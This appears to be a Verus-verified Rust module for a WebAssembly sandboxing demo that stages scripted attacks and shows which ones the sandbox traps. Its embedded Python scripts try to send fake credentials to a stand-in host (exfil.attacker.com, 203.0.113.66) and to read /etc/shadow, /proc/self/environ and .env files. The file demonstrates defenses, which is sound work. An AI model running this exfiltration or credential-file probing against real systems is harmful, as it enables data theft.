use vstd::prelude::*;

verus! {

/// Display record for one attack scenario: its name, the nominal time an
/// interpreted worker needs to come back, the trap the sandbox reports, and the
/// capability the sandboxed module was denied.
pub struct AttackConfig {
    pub name: &'static str,
    pub restart_ms: u32,
    pub wasm_trap: &'static str,
    pub wit_func: &'static str,
}

/// What an `AttackConfig` says, as character sequences.
pub ghost struct AttackRecord {
    pub name: Seq<char>,
    pub restart_ms: u32,
    pub wasm_trap: Seq<char>,
    pub wit_func: Seq<char>,
}

impl View for AttackConfig {
    type V = AttackRecord;

    open spec fn view(&self) -> AttackRecord {
        AttackRecord {
            name: self.name@,
            restart_ms: self.restart_ms,
            wasm_trap: self.wasm_trap@,
            wit_func: self.wit_func@,
        }
    }
}

/// The record made of the given texts and delay.
pub open spec fn record(name: &str, restart_ms: u32, wasm_trap: &str, wit_func: &str) -> AttackRecord {
    AttackRecord { name: name@, restart_ms, wasm_trap: wasm_trap@, wit_func: wit_func@ }
}

/// The identifiers of the five scripted attacks.
pub open spec fn is_known_attack(id: Seq<char>) -> bool {
    ||| id == "bufferOverflow"@
    ||| id == "dataExfil"@
    ||| id == "pathTraversal"@
    ||| id == "killLeader"@
    ||| id == "heartbeatTimeout"@
}

/// The record shown for an identifier that names no scripted attack.
pub open spec fn default_attack_record() -> AttackRecord {
    record("Unknown Attack", 1000, "trap", "unknown()")
}

/// The record shown for each attack identifier.
pub open spec fn attack_record(id: Seq<char>) -> AttackRecord {
    if id == "bufferOverflow"@ {
        record("Buffer Overflow", 1800, "out of bounds memory access", "malloc-large()")
    } else if id == "dataExfil"@ {
        record("Data Exfiltration", 2100, "capability not granted: network", "open-socket()")
    } else if id == "pathTraversal"@ {
        record("Path Traversal", 1500, "capability not granted: filesystem", "read-file()")
    } else if id == "killLeader"@ {
        record("Kill Leader", 1500, "leader instance terminated", "(N/A - crash scenario)")
    } else if id == "heartbeatTimeout"@ {
        record("Heartbeat Timeout", 2000, "leader unresponsive", "(N/A - network scenario)")
    } else {
        default_attack_record()
    }
}

/// The five identifiers differ from each other: their lengths do.
proof fn lemma_attack_ids_differ()
    ensures
        "bufferOverflow"@.len() == 14,
        "dataExfil"@.len() == 9,
        "pathTraversal"@.len() == 13,
        "killLeader"@.len() == 10,
        "heartbeatTimeout"@.len() == 16,
{
    reveal_strlit("bufferOverflow");
    reveal_strlit("dataExfil");
    reveal_strlit("pathTraversal");
    reveal_strlit("killLeader");
    reveal_strlit("heartbeatTimeout");
}

/// A scripted attack's identifier yields a record other than the default one,
/// with a non-empty name; any other identifier, the empty one included, yields
/// the default record.
pub proof fn lemma_attack_lookup(id: Seq<char>)
    ensures
        is_known_attack(id) ==> attack_record(id) != default_attack_record(),
        is_known_attack(id) ==> attack_record(id).name.len() > 0,
        !is_known_attack(id) ==> attack_record(id) == default_attack_record(),
{
    reveal_strlit("Unknown Attack");
    reveal_strlit("Buffer Overflow");
    reveal_strlit("Data Exfiltration");
    reveal_strlit("Path Traversal");
    reveal_strlit("Kill Leader");
    reveal_strlit("Heartbeat Timeout");
    lemma_attack_ids_differ();
}

/// The five scripted attacks carry five different names.
pub proof fn lemma_attack_names_distinct(a: Seq<char>, b: Seq<char>)
    requires
        is_known_attack(a),
        is_known_attack(b),
        a != b,
    ensures
        attack_record(a).name != attack_record(b).name,
{
    reveal_strlit("Buffer Overflow");
    reveal_strlit("Data Exfiltration");
    reveal_strlit("Path Traversal");
    reveal_strlit("Kill Leader");
    reveal_strlit("Heartbeat Timeout");
    lemma_attack_ids_differ();
    assert("Buffer Overflow"@.len() == 15);
    assert("Data Exfiltration"@.len() == 17);
    assert("Path Traversal"@.len() == 14);
    assert("Kill Leader"@.len() == 11);
    assert("Heartbeat Timeout"@.len() == 17);
    assert("Data Exfiltration"@[0] != "Heartbeat Timeout"@[0]);
}

/// Whether two string slices hold the same characters.
pub fn same_text(a: &str, b: &str) -> (r: bool)
    ensures
        r == (a@ == b@),
{
    let x: String = a.to_owned();
    let y: String = b.to_owned();
    x.eq(&y)
}

/// Looks up the display record of an attack; unknown identifiers, the empty
/// one included, get the "Unknown Attack" record.
pub fn get_attack_config(attack: &str) -> (r: AttackConfig)
    ensures
        r@ == attack_record(attack@),
{
    if same_text(attack, "bufferOverflow") {
        AttackConfig {
            name: "Buffer Overflow",
            restart_ms: 1800,
            wasm_trap: "out of bounds memory access",
            wit_func: "malloc-large()",
        }
    } else if same_text(attack, "dataExfil") {
        AttackConfig {
            name: "Data Exfiltration",
            restart_ms: 2100,
            wasm_trap: "capability not granted: network",
            wit_func: "open-socket()",
        }
    } else if same_text(attack, "pathTraversal") {
        AttackConfig {
            name: "Path Traversal",
            restart_ms: 1500,
            wasm_trap: "capability not granted: filesystem",
            wit_func: "read-file()",
        }
    } else if same_text(attack, "killLeader") {
        AttackConfig {
            name: "Kill Leader",
            restart_ms: 1500,
            wasm_trap: "leader instance terminated",
            wit_func: "(N/A - crash scenario)",
        }
    } else if same_text(attack, "heartbeatTimeout") {
        AttackConfig {
            name: "Heartbeat Timeout",
            restart_ms: 2000,
            wasm_trap: "leader unresponsive",
            wit_func: "(N/A - network scenario)",
        }
    } else {
        AttackConfig {
            name: "Unknown Attack",
            restart_ms: 1000,
            wasm_trap: "trap",
            wit_func: "unknown()",
        }
    }
}

/// Excerpt of the WIT contract shown beside the demo.
pub const WIT_CODE_EXCERPT: &'static str = r#"// wit/attacks.wit - WASI 0.2 Component Model
// ============================================================================
// BROWSER DEMO vs RASPBERRY PI DEPLOYMENT
// ============================================================================
// 
// this demo runs in the browser using wasm-bindgen + pyodide.
// the wit contract shown here is the SAME format used by wasmtime on raspberry pi.
// 
// KEY DIFFERENCE:
// - browser: we SIMULATE trap responses (js returns error)
// - raspberry pi: wasmtime ENFORCES at syscall level (no import = instant trap)
//
// on raspberry pi with wasmtime:
//   $ wasmtime --dir=/dev/i2c-1::readonly sensor-node.wasm
//   # only grants read access to i2c bus, nothing else
//   # any call to open-socket() or read-file() traps IMMEDIATELY
//
// ============================================================================

package reliability-triad:attacks@0.1.0;

// shared data types used by workers and supervisor
interface common-types {
    // telemetry packet returned by each worker every tick
    record telemetry-packet { timestamp: u64, value: f64, status: u8 }
}

// ============================================================================
// ATTACK SURFACE - capabilities attacker wants but SHOULD NOT HAVE
// ============================================================================
// on raspberry pi: these imports are simply NOT PROVIDED by the host
// any call immediately traps: "import not found: attack-surface/malloc-large"
//
// in browser demo: we simulate this by returning error strings
interface attack-surface {
    // memory: attacker tries to allocate huge buffer for heap spray
    // raspberry pi: traps immediately, host never exports this
    malloc-large: func(size: u64) -> result<u64, string>;
    
    // network: attacker tries to exfiltrate data
    // raspberry pi: traps immediately, wasi:sockets not granted
    open-socket: func(addr: string) -> result<u32, string>;
    
    // filesystem: attacker tries path traversal
    // raspberry pi: traps immediately, wasi:filesystem not granted (or scoped to /dev/i2c)
    read-file: func(path: string) -> result<list<u8>, string>;
}

// ============================================================================
// LEGITIMATE CAPABILITIES - what the sensor worker ACTUALLY needs
// ============================================================================
// on raspberry pi: wasmtime grants only these via:
//   --dir=/dev/i2c-1::readonly
//   --env=SENSOR_TYPE=bme280
interface sensor-capabilities {
    // reads raw value from hardware register (i2c bus on pi)
    read-hardware-register: func(reg-id: u32) -> f64;
    
    // debug logging (goes to stderr on pi, console on browser)
    log-debug: func(msg: string);
}

// ============================================================================
// WORKER WORLD - instantiated 3x for 2oo3 tmr voting
// ============================================================================
// the worker has NO knowledge of the tmr/voting logic
// it simply processes one tick and returns a telemetry packet
// if it tries to call attack-surface functions, it traps
world sensor-node {
    import sensor-capabilities;  // granted by host
    import attack-surface;       // NOT granted - any call traps
    
    // worker exports this - supervisor calls it 3x and compares outputs
    export process-tick: func() -> common-types.telemetry-packet;
}

// ============================================================================
// SUPERVISOR WORLD - runs on host, manages worker lifecycle
// ============================================================================
// this runs OUTSIDE the wasm sandbox (native rust on raspberry pi)
// it instantiates 3 workers, calls process-tick on each, and votes
world system-supervisor {
    import tmr-logic;
}

interface tmr-logic {
    // 2oo3 voting: if 2+ outputs match, we have consensus
    // if one worker traps, we use the other 2's matching output
    consensus-2oo3: func(a: ..., b: ..., c: ...) -> result<packet, string>;
    
    // hot-swap: if worker traps, rebuild it in ~0.03ms
    trigger-hot-swap: func(node-index: u8);
}

// ============================================================================
// RASPBERRY PI COMMAND EXAMPLES
// ============================================================================
// 
// run sensor worker with minimal capabilities:
//   $ wasmtime run --dir=/dev/i2c-1::readonly sensor-node.wasm
//
// run with network for mqtt publishing (if needed):
//   $ wasmtime run --tcplisten=0.0.0.0:1883 sensor-node.wasm
//
// run with NO filesystem at all (true isolation):
//   $ wasmtime run sensor-node.wasm
//   # any wasi:filesystem call traps immediately
//
"#;

/// Script that tries a heap spray and a stack buffer overflow.
pub const ATTACK_BUFFER_OVERFLOW: &'static str = r#"
import time
start = time.perf_counter()
result = None

try:
    print("[ATTACK] Attempting heap spray (256MB)...")
    try:
        massive = bytearray(256 * 1024 * 1024)
    except MemoryError:
        print("[INFO] MemoryError on heap spray")
    
    print("[ATTACK] Attempting stack buffer overflow...")
    fixed = bytearray(64)
    overflow = b"A" * 128
    
    for i, b in enumerate(overflow):
        fixed[i] = b  # Will raise IndexError at i=64
    
    result = "VULNERABLE: Overflow succeeded!"
    
except MemoryError as e:
    elapsed = (time.perf_counter() - start) * 1000
    result = f"CRASHED|MemoryError|Unable to allocate 256MB|{elapsed:.1f}ms"
    
except IndexError as e:
    elapsed = (time.perf_counter() - start) * 1000
    result = f"CRASHED|IndexError|buffer[64] out of bounds|{elapsed:.1f}ms"
    
except Exception as e:
    result = f"CRASHED|{type(e).__name__}|{str(e)}"

result
"#;

/// Script that tries to send collected secrets over the network.
pub const ATTACK_DATA_EXFIL: &'static str = r#"
import time
start = time.perf_counter()
result = None

sensitive = {
    "plc_creds": {"user": "engineer", "pass": "S!emens#2026"},
    "modbus_gw": "192.168.40.1:502",
    "api_key": "sk-historian-PROD-8x7k"
}
print(f"[ATTACK] Collected {len(sensitive)} sensitive objects")

try:
    import socket
    print("[ATTACK] Attempting DNS: exfil.attacker.com")
    
    try:
        ip = socket.gethostbyname("exfil.attacker.com")
        result = f"VULNERABLE|DNS resolved|{ip}"
    except socket.gaierror as e:
        print(f"[INFO] DNS blocked: {e}")
    
    print("[ATTACK] Attempting socket to 203.0.113.66:443")
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.settimeout(1.0)
    sock.connect(("203.0.113.66", 443))
    sock.send(str(sensitive).encode())
    result = "VULNERABLE|socket.connect|Data exfiltrated!"
    
except socket.gaierror as e:
    elapsed = (time.perf_counter() - start) * 1000
    result = f"BLOCKED|socket.gaierror|DNS resolution failed|{elapsed:.1f}ms"
    
except (socket.error, OSError) as e:
    elapsed = (time.perf_counter() - start) * 1000
    result = f"BLOCKED|socket.error|Network access denied|{elapsed:.1f}ms"
    
except Exception as e:
    result = f"ERROR|{type(e).__name__}|{str(e)}"

result
"#;

/// Script that probes sensitive paths on the filesystem.
pub const ATTACK_PATH_TRAVERSAL: &'static str = r#"
import time
import os
start = time.perf_counter()
result = None

targets = [
    "/etc/passwd", "/etc/shadow", "../../../etc/passwd",
    "/proc/self/environ", "/app/.env", "../../.git/config"
]
print(f"[ATTACK] Probing {len(targets)} paths...")

readable = []  # Files successfully read
exists_only = []  # Files exist but couldn't read
blocked = []  # Files blocked by sandbox

for path in targets:
    try:
        print(f"[PROBE] {path}")
        if os.path.exists(path):
            try:
                with open(path, 'r') as f:
                    content = f.read(64)
                readable.append(path)
                print(f"[EXFIL] Read from {path}")
            except PermissionError:
                exists_only.append(path)
        else:
            blocked.append(path)
    except OSError as e:
        blocked.append(path)

elapsed = (time.perf_counter() - start) * 1000

if readable:
    result = f"VULNERABLE|FileRead|Read {len(readable)} files!|{elapsed:.1f}ms"
elif exists_only:
    result = f"PARTIAL|PermissionError|{len(exists_only)} paths exist but unreadable|{elapsed:.1f}ms"
else:
    result = f"BLOCKED|OSError|All {len(targets)} paths blocked by sandbox|{elapsed:.1f}ms"

result
"#;

/// Expression evaluated for an attack that has no script.
pub const UNKNOWN_ATTACK_CODE: &'static str = "{'status': 'unknown', 'error': 'InvalidAttack', 'msg': 'Unknown attack type'}";

/// The script run in the interpreted runtime for each attack.
pub open spec fn attack_code(id: Seq<char>) -> Seq<char> {
    if id == "bufferOverflow"@ {
        ATTACK_BUFFER_OVERFLOW@
    } else if id == "dataExfil"@ {
        ATTACK_DATA_EXFIL@
    } else if id == "pathTraversal"@ {
        ATTACK_PATH_TRAVERSAL@
    } else {
        UNKNOWN_ATTACK_CODE@
    }
}

/// Returns the script that stages the given attack in the interpreted runtime;
/// attacks without a script get an expression that reports the unknown type.
pub fn get_attack_code(attack: &str) -> (r: &'static str)
    ensures
        r@ == attack_code(attack@),
{
    if same_text(attack, "bufferOverflow") {
        ATTACK_BUFFER_OVERFLOW
    } else if same_text(attack, "dataExfil") {
        ATTACK_DATA_EXFIL
    } else if same_text(attack, "pathTraversal") {
        ATTACK_PATH_TRAVERSAL
    } else {
        UNKNOWN_ATTACK_CODE
    }
}

/// Time between the starts of two attacks of a full run, in milliseconds.
pub const RUN_ALL_SPACING_MS: u64 = 3500;

/// Time from the start of a full run to its end, in milliseconds.
pub const RUN_ALL_DURATION_MS: u64 = 20500;

/// One attack of a full run and when it starts.
pub struct ScheduledAttack {
    pub attack: &'static str,
    pub is_leader_attack: bool,
    pub delay_ms: u64,
}

/// The attacks of a full run in order: the three capability attacks, then the
/// two that take the leader down.
pub open spec fn run_all_order() -> Seq<Seq<char>> {
    seq!["bufferOverflow"@, "dataExfil"@, "pathTraversal"@, "killLeader"@, "heartbeatTimeout"@]
}

/// Returns the full run: each scripted attack once, in order, spaced
/// `RUN_ALL_SPACING_MS` apart, the last two marked as leader attacks.
pub fn run_all_schedule() -> (r: Vec<ScheduledAttack>)
    ensures
        r@.len() == run_all_order().len(),
        forall|i: int|
            0 <= i < r@.len() ==> {
                &&& (#[trigger] r@[i]).attack@ == run_all_order()[i]
                &&& r@[i].is_leader_attack == (i >= 3)
                &&& r@[i].delay_ms == i * RUN_ALL_SPACING_MS
            },
{
    let order: [(&'static str, bool); 5] = [
        ("bufferOverflow", false),
        ("dataExfil", false),
        ("pathTraversal", false),
        ("killLeader", true),
        ("heartbeatTimeout", true),
    ];
    let mut r: Vec<ScheduledAttack> = Vec::new();
    let mut i: usize = 0;
    while i < 5
        invariant
            i <= 5,
            r@.len() == i,
            order@ == seq![
                ("bufferOverflow", false),
                ("dataExfil", false),
                ("pathTraversal", false),
                ("killLeader", true),
                ("heartbeatTimeout", true),
            ],
            forall|j: int|
                0 <= j < i ==> {
                    &&& (#[trigger] r@[j]).attack@ == run_all_order()[j]
                    &&& r@[j].is_leader_attack == (j >= 3)
                    &&& r@[j].delay_ms == j * RUN_ALL_SPACING_MS
                },
        decreases 5 - i,
    {
        let (attack, is_leader_attack) = order[i];
        r.push(ScheduledAttack { attack, is_leader_attack, delay_ms: i as u64 * RUN_ALL_SPACING_MS });
        i = i + 1;
    }
    r
}

} // verus!
